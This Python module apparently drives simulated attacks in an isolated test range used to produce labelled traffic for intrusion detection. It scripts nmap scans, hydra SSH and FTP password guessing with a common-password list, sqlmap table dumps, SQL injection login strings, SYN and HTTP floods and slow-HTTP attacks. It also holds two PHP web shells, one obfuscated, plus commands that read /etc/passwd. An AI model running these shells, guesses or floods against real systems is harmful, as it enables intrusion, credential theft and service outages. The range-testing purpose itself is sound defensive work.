"""What the attacker does to the victim: one function for each attack, with real tools.

Every attack is bounded in count and time and aims at the victim's address inside the range's
namespaces, where no route leads out. Each returns a `Deed`: what it was and what came of it.
"""

from __future__ import annotations

import shlex
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.range.benign import multipart
from tests.range.client import Client
from tests.range.payloads import KNOWN, Attempts, paths
from tests.range.rig import VICTIM, WEAK_USER, Range
from tests.range.spaces import Place
from tests.range.timetable import KINDS

TOOLS = ("nmap", "hydra", "sqlmap", "hping3", "slowhttptest", "tcpdump")
LONGEST = 150
"""Seconds after which any tool is stopped, whatever it was doing."""

MAX_PACKETS = 5_000
MAX_REQUESTS = 5_000
MAX_GUESSES = 60

SSH_USERS = ("root", "admin", "test", "intern")
PASSWORDS = [
    "123456",
    "password",
    "12345678",
    "qwerty",
    "123456789",
    "letmein",
    "admin",
    "welcome",
    "monkey",
    "1234",
    "dragon",
    "football",
    "iloveyou",
    "abc123",
    "master",
    "login",
    "passw0rd",
    "princess",
    "solo",
    "starwars",
    "sunshine",
    "trustno1",
]
FTP_USERS = ("ftp", "admin", "intern")

WEB_SHELL = """<?php
// status page
if (isset($_REQUEST['cmd'])) {
    echo "<pre>";
    system($_REQUEST['cmd']);
    echo "</pre>";
    die;
}
if (isset($_POST['p'])) { eval(base64_decode($_POST['p'])); }
?>
"""
ENCODED_SHELL = """<?php
$k = "\\x62\\x61\\x73\\x65\\x36\\x34_decode";
@eval($k($_POST['z0']));
@assert($_REQUEST['a']);
echo shell_exec($_GET['e']);
?>
"""


@dataclass(frozen=True, slots=True)
class Deed:
    """What was done: for the timetable, and `output` for whoever wants to know what came of it."""

    kind: str
    tool: str
    command: str
    output: str
    technique: str = ""
    note: str = ""

    def mitre(self) -> str:
        return self.technique or KINDS[self.kind]


def syn_scan(place: Place, ports: str = "1-1000", timing: str = "-T4") -> Deed:
    """Half-open scan of the victim's TCP ports with nmap."""
    return _tool(place, "port_scan", ["nmap", "-n", "-sS", timing, "-p", ports, VICTIM])


def connect_scan(place: Place, ports: str = "1-300") -> Deed:
    """Scan by full connections, as a scanner without privileges does."""
    return _tool(place, "port_scan", ["nmap", "-n", "-sT", "-T3", "-p", ports, VICTIM])


def service_scan(place: Place, ports: str = "21,22,80") -> Deed:
    """Ask open ports what answers there."""
    return _tool(place, "port_scan", ["nmap", "-n", "-sV", "--version-light", "-p", ports, VICTIM])


def ssh_brute_force(
    place: Place,
    users: Sequence[str] = SSH_USERS,
    passwords: Sequence[str] = PASSWORDS,
    tasks: int = 4,
) -> Deed:
    """Guess passwords over SSH with hydra until one fits; at most users × passwords tries."""
    command = [*_hydra(place, "ssh", users, passwords, tasks), f"ssh://{VICTIM}"]
    return _tool(place, "ssh_brute_force", command, tried=(users, passwords))


def guess_one_by_one(
    client: Client, users: Sequence[str], passwords: Sequence[str], pause: float = 1.0
) -> Deed:
    """Guess like a bot that takes its time: one connection and one password each."""
    guesses = [(user, password) for user in users for password in passwords]
    refused = 0
    for user, password in guesses[:MAX_GUESSES]:
        time.sleep(pause)
        pinned = client.rig.host_key_line
        result = client.do("ssh", host_key=pinned, user=user, mistyped=[password], pause=0)
        refused += result.get("refused", 0)
    command = f"{len(guesses)} guesses, a connection each"
    return Deed("ssh_brute_force", "paramiko", command, f"{refused} refused", note="slow")


def ftp_brute_force(
    place: Place,
    users: Sequence[str] = FTP_USERS,
    passwords: Sequence[str] = PASSWORDS,
    tasks: int = 4,
) -> Deed:
    """Guess passwords over FTP with hydra until one fits."""
    command = [*_hydra(place, "ftp", users, passwords, tasks), f"ftp://{VICTIM}"]
    return _tool(place, "ftp_brute_force", command, tried=(users, passwords))


def log_in(client: Client, user: str, password: str) -> Deed:
    """Use the account that was guessed, and look around."""
    looks = ["id", "uname -a", "cat /etc/passwd", "ls -la /srv/shop/uploads", "ss -lnt"]
    result = client.do(
        "ssh", host_key=client.rig.host_key_line, user=user, password=password, commands=looks
    )
    outputs = "\n".join(result.get("outputs", [result.get("error", "")]))
    command = f"ssh {user}@{VICTIM} " + shlex.quote("; ".join(looks))
    return Deed("ssh_brute_force", "ssh", command, outputs, "T1078", "logs in with the find")


def sql_injection(
    place: Place, path: str = "/product?id=1", *options: str, seconds: int = LONGEST
) -> Deed:
    """Find the hole with sqlmap and take the user table through it, or try for `seconds`."""
    results = place.cwd / f"{place.name}-sqlmap"
    command = ["sqlmap", "-u", f"http://{VICTIM}{path}", "--batch", "--disable-coloring"]
    command += ["--threads=2", "--timeout=5", "--retries=1"]
    command += [*options, "--dump", "-T", "users", f"--output-dir={results}"]
    return _tool(place, "web_injection", command, seconds=seconds)


def inject_by_hand(
    client: Client,
    attempts: Attempts = KNOWN,
    agent: str = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    pause: float = 0.4,
) -> Deed:
    """Try what a person tries: script, SQL, path, command and template injection, one by one."""
    tried = [quote(path, safe="/?=&%:.-_~+*'()$;,") for path in paths(attempts)]
    requests: list[dict[str, Any]] = [{"path": path, "pause": pause} for path in tried]
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for body in ("name=admin'--&password=x", "name=x&password=' OR '1'='1"):
        posted = {"method": "POST", "path": "/login", "body": body, "headers": form}
        requests.append({**posted, "pause": pause})
    result = client.do("http", requests=requests, headers={"User-Agent": agent}, keep=False)
    command = f"{len(requests)} requests, the first: {tried[0]}"
    return Deed("web_injection", "browser", command, str(result), note="by hand")


def plant_web_shell(
    client: Client,
    name: str = "status.php",
    text: str = WEB_SHELL,
    commands: Sequence[str] = ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www"),
    parameter: str = "cmd",
    agent: str = "curl/7.88.1",
) -> Deed:
    """Upload a shell as a picture and call it. The victim serves its text and executes nothing."""
    requests = [multipart(name, "image/png", text)]
    for command in commands:
        path = f"/uploads/{name}?{parameter}={quote(command)}"
        requests.append({"path": path, "pause": 1.0})
    result = client.do("http", requests=requests, headers={"User-Agent": agent}, keep=False)
    shown = f"curl -F file=@{name} http://{VICTIM}/upload, then {len(commands)} calls of it"
    return Deed("web_shell", "curl", shown, str(result))


def syn_flood(place: Place, packets: int = 2_000, interval_us: int = 2_000, port: int = 80) -> Deed:
    """SYN packets from ever new ports with hping3, `interval_us` apart."""
    count = str(min(packets, MAX_PACKETS))
    command = ["hping3", "-q", "-S", "-p", str(port), "-i", f"u{interval_us}", "-c", count, VICTIM]
    return _tool(place, "flood", command, technique="T1498.001")


def http_flood(
    client: Client,
    workers: int = 10,
    requests: int = 200,
    seconds: float = 20,
    path: str = "/search",
    agent: str = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)",
) -> Deed:
    """Requests as fast as the shop answers, from many connections at once."""
    requests = min(requests, MAX_REQUESTS // workers)
    action = {"workers": workers, "requests": requests, "seconds": seconds, "path": path}
    result = client.do("http_flood", headers={"User-Agent": agent}, **action)
    command = f"http_flood {workers} workers x {requests} requests of {path}"
    return Deed("flood", "own flooder", command, str(result), "T1499.002")


def slow_http(
    place: Place, mode: str = "-H", connections: int = 80, seconds: int = 25, rate: int = 20
) -> Deed:
    """Hold connections open with requests that never end: headers (-H) or bodies (-B)."""
    command = ["slowhttptest", mode, "-c", str(connections), "-r", str(rate), "-i", "5"]
    command += ["-l", str(seconds), "-p", "3", "-u", f"http://{VICTIM}/login"]
    return _tool(place, "slow_http", command)


# ── the machinery ────────────────────────────────────────────────────────────────────────


def found_logins(deed: Deed) -> list[tuple[str, str]]:
    """Accounts and passwords that hydra reports as valid."""
    found = []
    for line in deed.output.splitlines():
        if "login: " in line and "password: " in line:
            words = line.split()
            found.append((words[words.index("login:") + 1], words[words.index("password:") + 1]))
    return found


def _hydra(
    place: Place, service: str, users: Sequence[str], passwords: Sequence[str], tasks: int
) -> list[str]:
    names, words = (place.cwd / f"{place.name}-{service}-{what}" for what in ("users", "words"))
    _lines(names, users)
    _lines(words, passwords)
    return ["hydra", "-I", "-f", "-t", str(tasks), "-L", str(names), "-P", str(words)]


def _lines(path: Path, items: Sequence[str]) -> None:
    path.write_text("".join(f"{item}\n" for item in items))


def _tool(
    place: Place,
    kind: str,
    command: list[str],
    technique: str = "",
    tried: tuple[Sequence[str], Sequence[str]] | None = None,
    seconds: int = LONGEST,
) -> Deed:
    bounded = ["timeout", "--kill-after=5", str(min(seconds, LONGEST)), *command]
    done = place.run(bounded, check=False, timeout=LONGEST + 10)
    # Paths of the scratch folder say nothing to a reader of the timetable.
    text = shlex.join(command).replace(f"{place.cwd}/", "")
    note = f"{len(tried[0])} users, {len(tried[1])} passwords" if tried else ""
    return Deed(kind, command[0], text, done.stdout + done.stderr, technique, note)


def intrusion(rig: Range, client: Client) -> Iterator[Deed]:
    """One short intrusion from end to end, about half a minute; yields each deed as it is done."""
    yield syn_scan(rig.attacker, "1-200")
    guessing = ssh_brute_force(rig.attacker, ("root", WEAK_USER), PASSWORDS[-8:])
    yield guessing
    for user, password in found_logins(guessing):
        yield log_in(client, user, password)
    yield inject_by_hand(client, pause=0.1)
    yield sql_injection(rig.attacker, "/product?id=1", "--technique=BEU", "--dbms=sqlite")
    yield plant_web_shell(client)
